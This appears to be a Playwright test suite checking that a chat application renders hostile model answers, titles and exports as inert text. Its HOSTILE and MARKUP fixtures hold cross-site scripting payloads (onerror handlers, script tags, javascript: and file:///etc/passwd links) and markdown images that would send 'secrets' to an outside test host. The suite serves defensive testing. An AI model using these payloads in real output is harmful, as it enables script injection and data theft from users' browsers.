"""Whatever a model writes, nothing of it runs, loads, jumps out or leads away unseen (TA-044, TA-045, TA-091)."""

import pytest
from playwright.async_api import expect

from tests.browser.conftest import NewPerson, OpenScreen, Person
from tests.browser.elsewhere import HOST, Elsewhere
from tests.browser.installation import Narrator
from tests.browser.screen import Screen

pytestmark = pytest.mark.browser
FAR = f"http://www.{HOST}"
MARKUP = (
    "<img src=x onerror=window.__pwned=1>",
    f"<script src={FAR}/a.js></script><script>window.__pwned=1</script>",
    '<svg onload="window.__pwned=1"><use href="data:image/svg+xml,x"/></svg>',
)
HOSTILE = f"""# Une réponse <img src={FAR}/titre.png onerror=window.__pwned=1>

![une image]({FAR}/image.png?mots=secrets) ![une autre][loin] ![suivie](//{HOST}/sans-protocole.png)
![interne](/api/sessions/current) [![dans un lien]({FAR}/dans-un-lien.png)]({FAR}/lien)

<img src="{FAR}/html.png"> <img src=x onerror="window.__pwned=1">
<svg xmlns="http://www.w3.org/2000/svg" onload="window.__pwned=1"><image href="{FAR}/svg.png"/></svg>
<iframe src="{FAR}/cadre" srcdoc="<script>parent.__pwned=1</script>"></iframe>
<object data="{FAR}/objet"></object><embed src="{FAR}/embed"><video src="{FAR}/film" autoplay></video>
<meta http-equiv="refresh" content="0;url={FAR}/meta"><base href="{FAR}/">
<link rel="stylesheet" href="{FAR}/feuille.css"><link rel="dns-prefetch" href="//{HOST}">
<style>body {{ background: url({FAR}/fond.png) }} @import "{FAR}/import.css";</style>
<div style="background-image: url({FAR}/style.png)" onclick="window.__pwned=1">bloc</div>
<form action="{FAR}/formulaire"><input name=q autofocus onfocus="window.__pwned=1"><button>Valider</button></form>
<script>window.__pwned=1</script><script src="{FAR}/script.js"></script>
<details open ontoggle="window.__pwned=1"><summary>x</summary></details>

[un](javascript:window.__pwned=1) [deux](JaVaScRiPt:window.__pwned=1) [trois](java&#115;cript:window.__pwned=1)
[quatre](data:text/html,<script>window.__pwned=1</script>) [cinq](vbscript:x) [six](file:///etc/passwd)
[sept](//{HOST}/relatif) [huit](/api/sessions/current) [neuf](blob:x) <javascript:window.__pwned=1>

$\\href{{javascript:window.__pwned=1}}{{x}}$ et $\\includegraphics{{{FAR}/katex.png}}$ et $\\url{{{FAR}/katex}}$
et $\\htmlStyle{{background:url({FAR}/katex-style.png)}}{{y}}$ et $\\htmlData{{x=1}}{{z}}$ et $\\def\\a{{\\a\\a}}\\a$

$$\\href{{{FAR}/formule}}{{\\frac{{1}}{{2}}}}$$

```mermaid
graph TD; A["<img src={FAR}/mermaid.png onerror=window.__pwned=1>"]; click A "javascript:window.__pwned=1"
```

```html
<script>window.__pwned=1</script><img src={FAR}/code.png>
```

| <img src={FAR}/cellule.png> | b |
|---|---|
| ![c]({FAR}/cellule-image.png) | <script>window.__pwned=1</script> |

- [ ] <iframe src="{FAR}/tache"></iframe>

Un renvoi[^1] et https://auto.{HOST}/lien?q=mots et contact@{HOST} et [mot de passe oublié]({FAR}/vrai "infobulle").

[^1]: Une note <img src={FAR}/note.png onerror=window.__pwned=1> ![n]({FAR}/note-image.png)

[loin]: {FAR}/reference.png "titre"
"""
# Notes, from before the first word of the answer, whatever was in the page even for an instant.
_GUARD = """() => {
  const forbidden = "img,iframe,object,embed,video,audio,script,style,link,meta,base,form,input,svg use,image,details";
  window.caught = [];
  const look = node => {
    if (!(node instanceof Element) || !node.closest("article")) return;
    for (const one of [node, ...node.querySelectorAll("*")]) {
      if (one.matches(forbidden)) window.caught.push(one.outerHTML);
      for (const { name, value } of one.attributes) {
        if (/^on|^srcdoc$|^xlink/.test(name)) window.caught.push(`${name}=${value}`);
        if (name === "style" && /url|image/i.test(value)) window.caught.push(`style=${value}`);
        if ((name === "href" || name === "src") && !/^(https?:|mailto:|#)/.test(value)) window.caught.push(value);
      }
    }
  };
  new MutationObserver(changes => {
    for (const { addedNodes, target } of changes) { addedNodes.forEach(look); look(target); }
  }).observe(document, { childList: true, subtree: true, attributes: true });
}"""


async def assert_inert(screen: Screen, elsewhere: Elsewhere) -> None:
    """The rest is seen by the witness of the browser: requests, dialogs, complaints of the browser."""
    assert await screen.page.evaluate("() => window.__pwned") is None
    assert screen.witness.elsewhere == []
    assert elsewhere.visits == []


async def ask_hostile(screen: Screen, narrator: Narrator, pace: str) -> None:
    narrator.texts["Une réponse hostile"] = HOSTILE
    await screen.page.evaluate(_GUARD)
    await screen.ask(f"Une réponse hostile {pace}")
    await screen.read()
    await expect(screen.answer().get_by_role("heading", name="Une réponse")).to_be_visible()
    await expect(screen.answer().get_by_role("link", name="mot de passe oublié")).to_be_visible()


async def test_a_hostile_answer_is_a_text(screen: Screen, narrator: Narrator, elsewhere: Elsewhere) -> None:
    await ask_hostile(screen, narrator, "[[rate=120]]")
    assert await screen.page.evaluate("() => window.caught") == []
    await expect(screen.answer()).to_contain_text("une image")
    await assert_inert(screen, elsewhere)
    own = f"{screen.address}/c/{screen.conversation_id}"
    assert screen.page.url == own
    # Read again from what was stored, and in every place where a conversation shows.
    await screen.page.reload()
    await expect(screen.answer().get_by_role("link", name="mot de passe oublié")).to_be_visible()
    await screen.page.emulate_media(media="print")
    await screen.page.emulate_media(media="screen")
    await screen.page.get_by_role("textbox", name="Rechercher dans mes conversations").fill("onerror")
    await expect(screen.conversations.locator("mark")).to_have_text("onerror")
    assert screen.page.url == own
    await assert_inert(screen, elsewhere)


async def test_each_link_tells_where_it_leads_and_asks(
    screen: Screen, narrator: Narrator, elsewhere: Elsewhere
) -> None:
    await ask_hostile(screen, narrator, "")
    links = screen.answer().get_by_role("link")
    addresses = await links.evaluate_all("all => all.map(link => link.getAttribute('href'))")
    assert addresses
    assert all(address.startswith(("http://", "https://", "mailto:")) for address in addresses), addresses
    for index, address in enumerate(addresses):
        await links.nth(index).click(button="middle" if index % 2 else "left")
        await expect(screen.dialog).to_contain_text(address)
        await screen.page.keyboard.press("Escape")
        await expect(screen.dialog).to_have_count(0)
    # The words of a link that do not say its place are followed by it.
    await expect(screen.answer()).to_contain_text(f"mot de passe oublié (www.{HOST})")
    assert len(screen.page.context.pages) == 1
    await assert_inert(screen, elsewhere)


async def test_leaving_carries_nothing_of_the_conversation(
    screen: Screen, narrator: Narrator, elsewhere: Elsewhere
) -> None:
    narrator.texts["Une bonne adresse"] = f"Voyez [la notice]({FAR}/notice?page=2#bas)."
    await screen.ask("Une bonne adresse")
    await screen.read()
    await screen.link("la notice").click()
    await expect(screen.heading(f"Ouvrir www.{HOST} ?")).to_be_visible()
    await expect(screen.dialog).to_contain_text(f"{FAR}/notice?page=2#bas")
    assert elsewhere.visits == []
    async with screen.page.context.expect_page() as opened:
        await screen.button("Ouvrir dans un nouvel onglet").click()
    other = await opened.value
    await expect(other).to_have_title("Ailleurs")
    assert await other.evaluate("() => [window.opener, document.referrer]") == [None, ""]
    visit = elsewhere.visits[0]
    assert visit.startswith("GET /notice?page=2 HTTP/1.1")
    for told in ("referer", "cookie", "chatelet"):
        assert told not in visit.lower()
    await other.close()
    await expect(screen.dialog).to_have_count(0)
    elsewhere.visits.clear()
    screen.witness.forget()


@pytest.mark.parametrize("markup", MARKUP)
async def test_names_titles_and_questions_are_texts(
    new_person: NewPerson, open_screen: OpenScreen, elsewhere: Elsewhere, markup: str
) -> None:
    person = await new_person(markup[:100], administrator=True)
    folder = await person.visitor.call("POST", "/api/folders", {"name": markup[:80]})
    conversation = await person.conversation(markup, f"Question {markup} [[say=Bien]]", folder_id=folder.body["id"])
    screen = await open_screen(person, f"/c/{conversation}")
    await screen.reading("Bien")
    await expect(screen.page.get_by_role("heading", level=1)).to_have_text(markup)
    await expect(screen.turn()).to_contain_text(markup)
    await expect(screen.conversations.get_by_role("link", name=markup)).to_be_visible()
    await expect(screen.conversations.get_by_role("button", name=markup[:80], exact=True)).to_be_visible()
    await screen.page.keyboard.press("Control+k")
    await screen.page.get_by_role("combobox").fill(markup[:12])
    await expect(screen.page.get_by_role("option").first).to_be_visible()
    await screen.open("/administration/persons")
    await screen.field("Rechercher une personne").fill(person.email)
    await expect(screen.page.get_by_role("table", name="Personnes")).to_contain_text(markup[:100])
    await assert_inert(screen, elsewhere)


async def test_an_export_opened_in_a_browser_is_inert(
    ada: Person, narrator: Narrator, open_screen: OpenScreen, elsewhere: Elsewhere
) -> None:
    narrator.texts["Une réponse hostile"] = HOSTILE
    conversation = await ada.conversation("Hostile", "Une réponse hostile")
    screen = await open_screen(ada)
    for kind in ("markdown", "json"):
        path = f"/api/conversations/{conversation}/export?format={kind}"
        answer = await ada.visitor.call("GET", path)
        assert answer.headers["Content-Disposition"].startswith("attachment")
        assert "sandbox" in answer.headers["Content-Security-Policy"]
    await assert_inert(screen, elsewhere)
